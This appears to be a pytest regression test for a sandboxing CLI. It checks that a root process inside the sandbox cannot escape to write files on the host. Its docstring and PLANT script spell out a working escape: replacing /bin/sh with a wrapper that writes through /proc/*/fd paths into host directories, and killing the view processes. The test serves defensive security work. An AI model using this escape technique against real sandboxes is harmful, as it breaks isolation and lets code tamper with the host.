"""Attack pass 12: a call that kills its view makes the CLI run the sandbox's /bin/sh as root
of the holder's namespaces, where the host's /proc lies open: a host file written (root).

``view_pid`` (engine.py) falls back to the *holder* when the view that ``holder.view`` names is
gone, and a call that is root of its view's user namespace may kill every view (same uid, and
CAP_KILL in the namespace the views are nested in). A call's working directory missing from
the sandbox (removed inside it while the client still stands there) then makes ``workspace
run`` resolve it with ``nsenter --user --mount --root`` of the holder: ``/bin/sh`` of the
sandbox's root, which a root call replaced, runs as root of the holder's user namespace with
every capability, in the host's pid and network namespaces, and in the holder's mount
namespace, whose /proc is the host's: ``/proc/<holder>/fd/N`` is a directory of the host's,
and the program writes a host file through it.

Reproduction (run by root):
  call 1: cp /bin/dash /tmp/real-sh; ln -sf /tmp/evil /bin/sh  (evil: for f in
          /proc/[0-9]*/fd/*: echo > "$f/<a host dir>/pwned"; exec /tmp/real-sh "$@");
          rm -rf sub; kill -9 every child of pid 1 (the views)
  call 2: workspace run --cwd PROJECT/sub -- true     -> <a host dir>/pwned exists on the host
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.engines import accounts

pytestmark = [pytest.mark.engine, pytest.mark.needs_root]

PLANT = r"""
target=$1
cp /bin/dash /tmp/real-sh
cat > /tmp/evil <<EOF
#!/bin/bash
for f in /proc/[0-9]*/fd/* /proc/[0-9]*/root /proc/[0-9]*/cwd; do
    [ -d "\$f$target" ] && { echo pwned > "\$f$target/pwned-\$\$"; } 2>/dev/null
done
exec /tmp/real-sh "\$@"
EOF
chmod 755 /tmp/evil /tmp/real-sh
ln -sf /tmp/evil /bin/sh
rm -rf sub
for v in $(ps -eo pid=,ppid= | awk '$2 == 1 {print $1}'); do kill -9 "$v"; done
echo planted
"""


def test_a_call_that_kills_its_view_never_gets_the_cli_to_run_its_program_in_the_holder(
        tmp_path: Path) -> None:
    account = accounts.make("self", tmp_path)
    target = tmp_path / "host-only"
    target.mkdir()
    try:
        (account.project / "sub").mkdir()
        planted = account.ws("run", "--", "bash", "-c", PLANT, "plant", str(target))
        assert "planted" in planted.stdout, planted
        account.ws("run", "--cwd", str(account.project / "sub"), "--", "true", timeout=30)
        written = sorted(p.name for p in target.iterdir())
        assert written == [], f"a call's program wrote host files: {target}/{written}"
    finally:
        accounts.clean(account)
